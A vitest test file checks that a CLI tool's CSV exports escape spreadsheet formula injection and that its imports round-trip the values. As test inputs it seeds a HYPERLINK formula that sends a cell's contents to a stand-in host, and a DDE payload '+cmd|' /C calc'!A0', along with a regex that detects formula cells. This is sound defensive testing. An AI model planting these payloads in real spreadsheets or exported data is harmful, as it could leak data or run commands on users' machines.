/**
 * Every CSV paten writes neutralises text a spreadsheet would run as a formula (issue 13 §1), and
 * the importers read back exactly the value that was exported.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cleanup, paten, patenJson, sampleDb, tempDir } from '../helpers/cli.js';
import { seedRows } from '../helpers/skm-seed.js';

const dir = tempDir('paten-csv-formula-');
let db: string;
const out = (name: string) => path.join(dir, name);
const HYPER = '=HYPERLINK("http://x.example/?"&A1,"Klik")';
const CMD = "+cmd|' /C calc'!A0";
const read = (file: string) => fs.readFileSync(file, 'utf8').replace(/^\uFEFF/, '');

function ok(args: string[]) {
  const r = paten(args, { db });
  if (r.code !== 0) throw new Error(`paten ${args.join(' ')}: ${r.stderr}`);
  return r;
}

/** No line of the file has a cell that begins with a formula character (quoted or not). */
function expectNoFormulaCell(text: string, delimiter = ',') {
  for (const line of text.split('\r\n'))
    for (const cell of line.split(delimiter)) expect(cell, line).not.toMatch(/^"?[=+@\t\r]|^"?-(?![\d.,]+%?"?$)/);
}

beforeAll(() => {
  db = sampleDb(dir);
  ok(['desa', 'edit', 'Kemlagi', '--nama', '=Kemlagi', '--kepala-desa', HYPER, '--kontak', '-0812']);
  ok(['layanan', 'edit', 'legalisasi-dokumen', '--nama', '@Legalisasi Dokumen', '--tambah-syarat', CMD]);
  ok(['bazar', 'instansi', 'add', '--nama', '=Tim Uji', '--singkatan', '@TU', '--jenis', 'dinas', '--layanan', '-Cek gula darah', '--catatan', CMD]);
  ok(['bazar', 'acara', 'add', '--tanggal', '2025-02-15', '--tema', '+Bazar']);
  ok(['bazar', 'undang', '1', '--semua']);
  ok(['bazar', 'hadir', '1', '@TU', '--layanan', '-Cek gula darah', '--dilayani', '12', '--catatan', HYPER]);
  seedRows(db, [
    { tanggal: '2025-03-01', layanan: 'legalisasi-dokumen', saran: HYPER, nilai: [4, 4, 4, 4, 4, 4, 4, 4, 4] },
    { tanggal: '2025-03-02', layanan: 'legalisasi-dokumen', saran: CMD, nilai: [3, 3, 3, 3, 3, 3, 3, 3, 3] },
    { tanggal: '2025-03-03', layanan: 'legalisasi-dokumen', saran: '-tolong cepat', nilai: [2, 3, 4, 3, 2, 3, 4, 3, 2] },
  ]);
});
afterAll(() => cleanup(dir));

describe('CSV formula injection (every writer)', () => {
  it('desa export guards the cells, and desa import reads back the same values', () => {
    ok(['desa', 'export', '--out', out('desa.csv')]);
    const text = read(out('desa.csv'));
    expect(text).toContain(`'=Kemlagi`);
    expect(text).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""Klik"")"`);
    expectNoFormulaCell(text);
    const r = patenJson(['desa', 'import', out('desa.csv')], { db });
    expect(JSON.stringify(r)).not.toMatch(/"diubah":\s*[1-9]/);
    const d = patenJson(['desa', 'list'], { db }).find((x: any) => x.nama === '=Kemlagi');
    expect(d).toMatchObject({ nama: '=Kemlagi', kepala_desa: HYPER, kontak: '-0812' });
  });

  it('layanan export (both delimiters) guards, and layanan import reads back the same catalog', () => {
    const before = patenJson(['layanan', 'show', 'legalisasi-dokumen'], { db });
    for (const [name, sep] of [['katalog.csv', ','], ['katalog-tk.csv', ';']] as const) {
      ok(['layanan', 'export', '--out', out(name), '--pemisah', sep]);
      const text = read(out(name));
      expect(text).toContain(`'@Legalisasi Dokumen`);
      expectNoFormulaCell(text, sep);
      ok(['layanan', 'import', out(name)]);
      expect(patenJson(['layanan', 'show', 'legalisasi-dokumen'], { db })).toEqual(before);
    }
  });

  it('bazar instansi export, the catat template and the bazar report CSVs guard their cells', () => {
    ok(['bazar', 'instansi', 'export', '--out', out('instansi.csv')]);
    const ins = read(out('instansi.csv'));
    expect(ins).toContain(`'=Tim Uji`);
    expectNoFormulaCell(ins);
    ok(['bazar', 'instansi', 'import', out('instansi.csv')]);
    expect(patenJson(['bazar', 'instansi', 'show', '@TU'], { db })).toMatchObject({ nama: '=Tim Uji', catatan: CMD });

    ok(['bazar', 'catat', '1', '--templat', out('templat.csv')]);
    const tpl = read(out('templat.csv'));
    expect(tpl).toContain(`'@TU`);
    expect(tpl).toContain(`'-Cek gula darah`);
    expectNoFormulaCell(tpl);

    for (const tabel of ['instansi', 'layanan', 'acara']) {
      ok(['bazar', 'laporan', '--tahun', '2025', '--format', 'csv', '--tabel', tabel, '--out', out(`bazar-${tabel}.csv`)]);
      expectNoFormulaCell(read(out(`bazar-${tabel}.csv`)));
    }
    const ev = ok(['bazar', 'laporan', '--acara', '1', '--format', 'csv']).stdout;
    expect(ev).toMatch(/'@TU|'=Tim Uji/);
    expect(ev).toContain(',12');
    expectNoFormulaCell(ev.replace(/\r?\n$/, ''));
  });

  it('report ikm --format csv guards the public saran and keeps numbers as numbers', () => {
    ok(['report', 'ikm', '--tahun', '2025', '--format', 'csv', '--out', out('ikm')]);
    const saran = read(out('ikm-saran.csv'));
    expect(saran).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""Klik"")"`);
    expect(saran).toContain(`,'+cmd|' /C calc'!A0`);
    expect(saran).toContain(`'-tolong cepat`);
    for (const f of fs.readdirSync(dir).filter((n) => /^ikm-.*\.csv$/.test(n))) expectNoFormulaCell(read(out(f)));
    expect(read(out('ikm-unsur.csv'))).not.toMatch(/,'[\d-]/);
    const ikmTable = ok(['ikm', '--tahun', '2025', '--per', 'layanan', '--csv']).stdout;
    expectNoFormulaCell(ikmTable.replace(/\r?\n$/, ''));
  });

  it('the poster manifest guards desa and layanan names', () => {
    ok(['qr', 'generate', '--out', out('poster'), '--desa', '=Kemlagi']);
    const manifest = read(path.join(out('poster'), 'manifest.csv'));
    expect(manifest).toContain(`'=Kemlagi`);
    expect(manifest).toContain(`'@Legalisasi Dokumen`);
    expectNoFormulaCell(manifest);
  });
});
